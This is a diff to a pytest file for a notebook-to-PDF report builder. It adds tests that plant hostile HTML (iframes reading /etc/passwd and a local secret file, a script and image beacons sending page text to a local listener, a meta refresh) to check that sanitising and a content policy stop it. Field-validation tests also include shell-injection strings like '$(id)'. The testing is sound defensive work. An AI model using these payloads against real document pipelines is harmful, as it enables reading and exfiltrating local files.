@@ -22,6 +22,7 @@ import matplotlib.pyplot as plt  # noqa: E402
 ROOT = Path(__file__).resolve().parent.parent
 sys.path.insert(0, str(ROOT / "tools"))
 import build_reports  # noqa: E402
+import student_fields  # noqa: E402
 
 HAVE_PDF_TOOLS = build_reports.chromium() is not None and all(
     shutil.which(t) for t in ("pdftotext", "pdfinfo"))
@@ -128,18 +129,20 @@ def tiny_repo(tmp_path, monkeypatch):
 
 
 def test_names_give_the_a3_file_name():
-    assert build_reports.name_parts("Ada Lovelace") == ("Lovelace", "Ada")
-    assert build_reports.name_parts("Lovelace, Ada King") == ("Lovelace", "Ada-King")
-    assert build_reports.name_parts("Ada King Lovelace") == ("Lovelace", "Ada-King")
-    assert build_reports.name_parts("") == ("Lastname", "Firstname")
-    assert build_reports.a3_prefix(dict(name="")) == "Lastname_Firstname_Assgn3"
-    assert build_reports.display_name("Lovelace, Ada") == "Ada Lovelace"
+    assert student_fields.name_parts("Ada Lovelace") == ("Lovelace", "Ada")
+    assert student_fields.name_parts("Lovelace, Ada King") == ("Lovelace", "Ada-King")
+    assert student_fields.name_parts("van der Berg, Anna") == ("van-der-Berg", "Anna")
+    assert student_fields.name_parts("") == ("Lastname", "Firstname")
+    assert student_fields.a3_prefix(dict(name="")) == "Lastname_Firstname_Assgn3"
+    assert student_fields.display_name("van der Berg, Anna") == "Anna van der Berg"
 
 
 def test_student_settings_are_saved_once_and_read_back(tiny_repo):
     assert build_reports.read_student()["name"] == ""
-    build_reports.save_student(dict(name='Ada "the first" Lovelace', id="1815", partner="", partner_id=""))
-    assert build_reports.read_student() == dict(name='Ada "the first" Lovelace', id="1815", partner="", partner_id="")
+    odd = dict(name='Ada "the first" \\Lovelace\\ ünïcødé 李', id="$HOME `id` $(id); 'x'", partner="Zoë\x7f\x01",
+               partner_id="a\\nb \\u0041 \"\"\"")
+    student_fields.save(build_reports.student_file(), odd)
+    assert build_reports.read_student() == odd  # read back by tomllib, every character as written
 
 
 def test_expected_files_follow_the_specs():
@@ -286,6 +289,240 @@ def test_tiny_reports_become_pdfs(tiny_repo):
     build_reports.build("a3_feedforward", STUDENT)
     text = pdf_text(tiny_repo / "reports" / "a3_feedforward" / "report.pdf")
     assert "print(" not in text and "the answer is 42" not in text  # no code and no console lines in this report
+
+
+# ------------------------------------------------------------------------------------------------ untrusted HTML
+class RecordingServer:
+    """A local web server on a free port, in a thread, that records every request it gets."""
+
+    def __init__(self):
+        import http.server
+        import threading
+        self.requests = []
+        recorder = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802 (http.server's name)
+                recorder.requests.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET  # noqa: N815
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def listener():
+    server = RecordingServer()
+    yield server
+    server.close()
+
+
+def planted_html(port, secret):
+    """HTML that would print /etc/passwd and a local file, and send the page's text to a local server."""
+    url = f"http://127.0.0.1:{port}"
+    return (f'<p>planted output follows</p><iframe src="file:///etc/passwd" width="600" height="300"></iframe>'
+            f'<object data="{secret.as_uri()}" type="text/plain" width="600" height="200">fallback</object>'
+            f'<embed src="{secret.as_uri()}" type="text/plain" width="600" height="200">'
+            f'<script>fetch("{url}/script?" + encodeURIComponent(document.body.innerText), {{mode: "no-cors"}})'
+            '</script>'
+            f'<img src="nowhere.png" onerror="new Image().src=\'{url}/onerror?\' + document.title">'
+            f'<img src="{url}/img"><link rel="stylesheet" href="{url}/css"><p style="background: url({url}/css-url)">'
+            f'styled</p><p>planted output ends</p>')
+
+
+REFRESH = '<meta http-equiv="refresh" content="0; url=file:///etc/passwd">'  # a navigation: no page policy stops it
+
+
+@needs_pdf_tools
+def test_the_planted_html_leaks_without_the_defences(tmp_path, listener):
+    secret = tmp_path / "local_secret.txt"
+    secret.write_text("LOCAL-SECRET-7f3a\n")
+    page, pdf = tmp_path / "plain.html", tmp_path / "plain.pdf"
+    page.write_text(f"<html><body>{planted_html(listener.port, secret)}</body></html>")
+    subprocess.run([build_reports.chromium(), "--headless", "--no-sandbox", "--disable-gpu",
+                    f"--user-data-dir={tmp_path}", "--virtual-time-budget=5000", f"--print-to-pdf={pdf}",
+                    page.as_uri()], capture_output=True, timeout=300)
+    text = pdf_text(pdf)  # the control: what the tests below keep out is there when printed as it was before
+    assert "root:" in text and "LOCAL-SECRET" in text and listener.requests
+
+
+@needs_pdf_tools
+def test_planted_html_prints_nothing_of_the_machine_and_sends_nothing(tiny_repo, listener):
+    secret = tiny_repo / "local_secret.txt"
+    secret.write_text("LOCAL-SECRET-7f3a a file of this machine\n")
+    path = tiny_repo / "notebooks" / "handin1_numpy_mlp" / "part1_tiny.ipynb"
+    nb = nbformat.read(path, as_version=4)
+    html = planted_html(listener.port, secret) + REFRESH
+    nb.cells[2].outputs.append(nbformat.v4.new_output("display_data", data={"text/html": html, "text/plain": "x"}))
+    nb.cells[2].outputs.append(nbformat.v4.new_output("display_data", data={"text/markdown": html}))
+    nb.cells.append(nbformat.v4.new_markdown_cell(f"## Raw HTML in Markdown\n\n{html}\n\nThe end."))
+    nbformat.write(nb, path)
+    build_reports.build("handin1_numpy_mlp", STUDENT)
+    text = pdf_text(tiny_repo / "reports" / "handin1_numpy_mlp" / "report.pdf")
+    assert "planted output follows" in text and "planted output ends" in text and "The end." in text
+    assert "root:x:0:0" not in text and "root:" not in text and "LOCAL-SECRET" not in text
+    assert "fetch(" not in text and "fallback" not in text  # scripts and objects left out with what they hold
+    assert listener.requests == []
+    page = (tiny_repo / "build" / "reports" / "handin1_numpy_mlp.html").read_text()
+    assert "<iframe" not in page and "<object" not in page and "<embed" not in page and "onerror" not in page
+
+
+@needs_pdf_tools
+def test_the_page_policy_alone_stops_planted_scripts_and_frames(tiny_repo, listener):
+    secret = tiny_repo / "local_secret.txt"
+    secret.write_text("LOCAL-SECRET-7f3a\n")
+    nonce = build_reports.safe_html.nonce()
+    page = (f'<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" '
+            f'content="{build_reports.safe_html.policy(nonce)}"></head><body>'
+            f'{planted_html(listener.port, secret)}</body></html>')  # not sanitized: the policy alone
+    pdf = tiny_repo / "policy.pdf"
+    assert build_reports.print_pdf(page, pdf, "policy")
+    text = pdf_text(pdf)
+    assert "planted output ends" in text and "root:x:0:0" not in text and "LOCAL-SECRET" not in text
+    assert listener.requests == []
+
+
+@needs_pdf_tools
+def test_chromium_reaches_no_network_even_without_the_policy(tiny_repo, listener):
+    url = f"http://127.0.0.1:{listener.port}"
+    page = (f'<html><body><p>offline</p><img src="{url}/img"><script>fetch("{url}/fetch", {{mode: "no-cors"}}); '
+            f'new Image().src = "http://localhost:{listener.port}/name";</script></body></html>')
+    assert build_reports.print_pdf(page, tiny_repo / "offline.pdf", "offline")
+    assert listener.requests == []
+
+
+def test_the_printed_page_runs_only_its_own_scripts(tiny_repo):
+    html = build_reports.html_of(build_reports.new_notebook([nbformat.v4.new_markdown_cell("$x$")]), "t")
+    first = re.match(r"\s*(<meta[^>]*>)", html.split("<head>", 1)[1]).group(1)  # before any script
+    assert 'http-equiv="Content-Security-Policy"' in first and "default-src 'none'" in first, first
+    nonce = re.search(r"'nonce-([\w-]+)'", first).group(1)
+    scripts = re.findall(r"<script[^>]*>", html)
+    assert len(scripts) == 3 and all(f'nonce="{nonce}"' in s for s in scripts), scripts  # MathJax x2, fit_tables
+    assert "https://" not in "".join(scripts) and "require.js" not in html  # nothing from the web
+
+
+# ------------------------------------------------------------------------------------------------ the student
+def an_old_set(repo, assignment="handin1_numpy_mlp"):
+    """A previous hand-in set under reports/<assignment>/, as {file name: bytes}."""
+    folder = repo / "reports" / assignment
+    folder.mkdir(parents=True)
+    for name in build_reports.expected_files(assignment, STUDENT):
+        (folder / name).write_bytes(f"the previous {name}".encode())
+    return {p.name: p.read_bytes() for p in folder.iterdir()}
+
+
+def files_of(folder):
+    """{file name: bytes} of a folder."""
+    return {p.name: p.read_bytes() for p in folder.iterdir()}
+
+
+@pytest.mark.parametrize("name, problem", [
+    ("A" * 150 + " " + "B" * 149, "it is 300 characters long; at most 60"),
+    ("Ada/Lovelace", "it holds '/'"),
+    ("Ada", "it is one word"),
+    ("Anna van der Berg", 'it has 4 words and no comma'),
+])
+def test_a_refused_name_saves_and_deletes_nothing(tiny_repo, name, problem):
+    student_fields.save(build_reports.student_file(), STUDENT)
+    saved = build_reports.student_file().read_bytes()
+    old = an_old_set(tiny_repo)
+    with pytest.raises(SystemExit) as refused:
+        build_reports.main(["--name", name, "--id", "42", "handin1_numpy_mlp"])
+    message = str(refused.value)
+    assert message.startswith("NAME ") and problem in message and "Fix: " in message, message
+    assert "Nothing was saved or built" in message and len(message.splitlines()) == 2  # ID 42 is fine
+    assert build_reports.student_file().read_bytes() == saved
+    assert files_of(tiny_repo / "reports" / "handin1_numpy_mlp") == old
+    assert sorted(p.name for p in (tiny_repo / "reports").iterdir()) == ["handin1_numpy_mlp"]
+
+
+def test_student_field_rules():
+    ok = dict(name="van der Berg, Anna", id="s-1234567", partner="Zoë O'Brien-Smith", partner_id="A0123456X")
+    assert student_fields.problems(ok) == []
+    assert student_fields.problems(dict(name="", id="")) == []  # unset: the title pages show a placeholder
+    found = student_fields.problems(dict(name="Lovelace,", id="12 34", partner="Ada $(id) Lovelace",
+                                         partner_id="x" * 21), given={"id"})
+    assert [m.split(" is refused")[0] for m in found] == ["name in student.toml 'Lovelace,'", "ID '12 34'",
+                                                         "partner in student.toml 'Ada $(id) Lovelace'",
+                                                         f"partner_id in student.toml '{'x' * 21}'"]
+    assert "make reports NAME=... replaces the saved one" in found[0] and "hyphens only" in found[1]
+    assert "'$' '(' ')'" in found[2] and "at most 20" in found[3]
+    assert "bytes long" in student_fields.problems(dict(name="\U00020000" * 30 + " " + "\U00020000" * 29))[0]
+
+
+def test_a_second_build_is_refused_while_one_runs(tiny_repo, monkeypatch):
+    import threading
+    entered, release, results = threading.Event(), threading.Event(), {}
+    real_zip = build_reports.code_zip
+
+    def slow_zip(assignment, target):
+        entered.set()
+        assert release.wait(60)
+        return real_zip(assignment, target)
+
+    monkeypatch.setattr(build_reports, "code_zip", slow_zip)
+    first = threading.Thread(target=lambda: results.setdefault("first", build_reports.main(
+        ["--name", "Ada Lovelace", "--id", "1815", "handin1_numpy_mlp"])))
+    first.start()
+    try:
+        assert entered.wait(120)
+        with pytest.raises(SystemExit) as refused:
+            build_reports.main(["--name", "Grace Hopper", "--id", "1906", "handin1_numpy_mlp"])
+        assert "another build of the hand-in files" in str(refused.value) and "nothing was saved" in str(refused.value)
+        assert build_reports.read_student()["name"] == "Ada Lovelace"
+    finally:
+        release.set()
+        first.join(120)
+    assert results["first"] == 0
+    folder = tiny_repo / "reports" / "handin1_numpy_mlp"
+    assert sorted(p.name for p in folder.iterdir()) == build_reports.expected_files("handin1_numpy_mlp")
+    if HAVE_PDF_TOOLS:
+        text = pdf_text(folder / "report.pdf")
+        assert "Ada Lovelace" in text and "Grace Hopper" not in text and "1906" not in text
+    assert build_reports.main(["--name", "Grace Hopper", "handin1_numpy_mlp"]) == 0  # the lock is free again
+
+
+def test_ctrl_c_during_a_build_keeps_the_old_set(tiny_repo, monkeypatch, capsys):
+    old = an_old_set(tiny_repo)
+
+    def interrupted_zip(assignment, target):
+        target.write_bytes(b"half a zip")
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(build_reports, "code_zip", interrupted_zip)
+    assert build_reports.main(["handin1_numpy_mlp"]) == 130
+    assert "handin1_numpy_mlp: interrupted (Ctrl-C): not built; reports/handin1_numpy_mlp/ is as it was" in (
+        capsys.readouterr().err)
+    assert files_of(tiny_repo / "reports" / "handin1_numpy_mlp") == old
+    assert sorted(p.name for p in (tiny_repo / "reports").iterdir()) == ["handin1_numpy_mlp"]  # no partial folder
+
+
+def test_zipped_files_unpack_readable_by_others(tiny_repo, tmp_path):
+    for path in tiny_repo.rglob("*.py"):
+        path.chmod(0o600)  # as a umask of 077 leaves them
+    target = tiny_repo / "code.zip"
+    build_reports.code_zip("handin1_numpy_mlp", target)
+    with zipfile.ZipFile(target) as z:
+        assert {info.filename: oct(info.external_attr >> 16 & 0o777) for info in z.infolist()} == dict.fromkeys(
+            z.namelist(), "0o644")
+        z.extractall(tmp_path / "zipfile")
+    if shutil.which("unzip"):  # unzip applies the zipped modes (Python's zipfile does not)
+        subprocess.run(["unzip", "-q", str(target), "-d", str(tmp_path / "unzip")], check=True)
+        modes = {p.name: oct(os.stat(p).st_mode & 0o777) for p in (tmp_path / "unzip").rglob("*") if p.is_file()}
+        assert modes == dict.fromkeys(modes, "0o644") and len(modes) == 5
+    unpacked = tmp_path / "zipfile" / "handin1_numpy_mlp" / "helpers.py"
+    assert unpacked.read_text() == (tiny_repo / "helpers.py").read_text()
 
 
 # ----------------------------------------------------------------------------------- the real hand-in files
